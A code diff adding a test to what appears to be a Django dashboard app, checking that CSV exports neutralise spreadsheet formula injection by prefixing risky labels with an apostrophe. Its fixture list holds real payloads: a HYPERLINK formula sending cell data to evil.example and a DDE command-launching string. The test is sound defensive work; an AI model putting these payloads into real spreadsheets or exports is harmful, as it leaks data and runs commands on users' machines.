@@ -266,6 +266,21 @@ def test_csv_cells_are_value_labels_not_codes(client_for, demo_source, analyst, 
     assert all(c[:1].isupper() for c in cells)
 
 
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(client_for, analyst, bars):
+    """A warehouse label is untrusted: one starting with = + - @ (or a full-width form, or a tab) leaves as
+    text with a leading apostrophe, while figures, negative ones included, stay numbers."""
+    hostile = ['=HYPERLINK("http://evil.example/?x="&B3,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
+               "-2+3", "\t=1", " =1", "\uff1d1", "North"]
+    result = dict(bars.result)
+    result["rows"] = [[label, -12.5 if i % 2 else "-12.5"] for i, label in enumerate(hostile)]
+    result["truncated"] = False
+    Widget.objects.filter(id=bars.id).update(result=result)
+    text = client_for(analyst).get(f"/api/widgets/{bars.id}/data.csv").content.decode()
+    rows = list(csv.reader(io.StringIO(text)))[1:]
+    assert [r[0] for r in rows] == ["'" + h for h in hostile[:-1]] + ["North"]
+    assert {r[1] for r in rows} == {"-12.5"}, "a figure is never made text"
+
+
 def test_staff_read_a_private_widget_read_only_and_the_opening_is_recorded(client_for, django_user_model, bars):
     from widgets.models import DashboardAccess
 
